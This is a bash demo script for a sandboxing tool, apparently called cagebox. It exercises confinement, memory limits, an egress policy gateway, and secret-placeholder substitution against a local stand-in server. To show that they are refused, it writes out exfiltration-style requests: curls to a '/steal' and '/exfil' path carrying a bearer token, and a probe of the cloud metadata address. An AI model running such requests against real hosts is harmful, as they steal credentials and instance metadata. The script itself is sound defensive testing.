#!/usr/bin/env bash
# The main job: set up, then run real sandboxes on the embedded defaults —
# confinement, limits, and egress through the gateway (an allowed name works
# over HTTPS, another is refused with the rule that refused it).
set -euo pipefail
cd "$(dirname "$0")/.."
./scripts/setup.sh
export PATH=$PATH:/usr/local/go/bin
home=${CAGEBOX_HOME:-/var/lib/cagebox}
cb="bin/cagebox --home $home"
work=$(mktemp -d)
daemon_pid=""
upstream_pid=""
cleanup() {
  [ -n "$daemon_pid" ] && kill "$daemon_pid" 2>/dev/null && wait "$daemon_pid" 2>/dev/null || true
  [ -n "$upstream_pid" ] && kill "$upstream_pid" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT

# No internet here: a local HTTPS server stands in for two public hosts, and
# the daemon is told where they are (--resolve) and whom to trust (--upstream-ca).
go build -o "$work/upstream" ./test/upstream
"$work/upstream" -names api.example.test,other.example.test -ca "$work/ca.pem" -addr-file "$work/addr" 2>"$work/upstream.log" &
upstream_pid=$!
for _ in $(seq 50); do [ -s "$work/addr" ] && break; sleep 0.1; done
addr=$(cat "$work/addr")

# Restart the daemon with those overrides (sandboxes keep running across it).
# (`cagebox daemon` runs as cagebox-server, the full build: same pid.)
pkill -f "cagebox(-server)? --home $home daemon" 2>/dev/null || true
pkill -f "cagebox(-server)? daemon --home $home" 2>/dev/null || true
sleep 0.5
$cb daemon --resolve "api.example.test:443=$addr" --resolve "other.example.test:443=$addr" \
  --upstream-ca "$work/ca.pem" >"$work/daemon.log" 2>&1 &
daemon_pid=$!
for _ in $(seq 100); do $cb ls >/dev/null 2>&1 && break; sleep 0.1; done

echo
echo '$ cagebox runtimes'
$cb runtimes
echo
echo '$ cagebox run -- sh -c "…"   # a fresh sandbox on the strongest runtime here (auto, above): no capabilities, its own routed link'
$cb run --memory 256M --timeout 5m -- sh -c 'echo "hello from $(hostname) as $(id -un), kernel $(uname -r)"; python3 -c "import platform; print(\"python\", platform.python_version())"; grep -E "^(CapEff|NoNewPrivs|Seccomp):" /proc/self/status'
echo
echo '$ cagebox run --memory 128M -- python3 -c "bytearray(400<<20)"   # limits are enforced'
$cb run --memory 128M -- python3 -c 'bytearray(400<<20)' || echo "(exit code $?)"
echo
cat > "$work/policy.yaml" <<'YAML'
version: 1
rules:
  - name: no-other
    host: other.example.test
    action: deny
YAML
echo '$ cagebox run --allow api.example.test --policy policy.yaml -- sh -c "curl …"   # deny by default, one policy point'
$cb run --allow api.example.test --policy "$work/policy.yaml" -- sh -c '
  echo "# allowed name, HTTPS through the gateway (the guest trusts its per-sandbox CA):"
  curl -sS https://api.example.test/v1/hello
  echo "# another name, refused with the rule that refused it:"
  curl -sS -w "  (HTTP %{http_code})\n" https://other.example.test/steal
  echo "# a literal private address, refused:"
  curl -sS -m 5 -w "  (HTTP %{http_code})\n" http://169.254.169.254/latest/meta-data/ || true
  echo "# a name no rule mentions does not even resolve:"
  curl -sS -m 5 https://example.com/ || true
'
echo
echo '$ GITHUB_TOKEN=ghp_… cagebox run --allow api.example.test --allow other.example.test --secret GITHUB_TOKEN@api.example.test -- sh -c "…"'
export GITHUB_TOKEN=ghp_DemoRealToken0000000000000000000000real
$cb run --allow api.example.test --allow other.example.test --secret GITHUB_TOKEN@api.example.test -- sh -c '
  echo "# inside the sandbox, \$GITHUB_TOKEN is a placeholder of the same shape:"
  echo "GITHUB_TOKEN=$GITHUB_TOKEN"
  echo "# sent to the host it is bound to, the gateway swaps in the real value:"
  curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.example.test/user
  echo "# the same placeholder heading anywhere else is refused:"
  curl -sS -w "  (HTTP %{http_code})\n" -H "Authorization: Bearer $GITHUB_TOKEN" https://other.example.test/exfil
'
unset GITHUB_TOKEN
echo "# what the upstream received (host side):"
grep "upstream received" "$work/upstream.log" | tail -2 | sed 's/^.*upstream received/  /'
echo
echo '$ cagebox events | tail   # every decision is an audit event'
$cb events | grep -E "egress|dns|secret" | tail -6
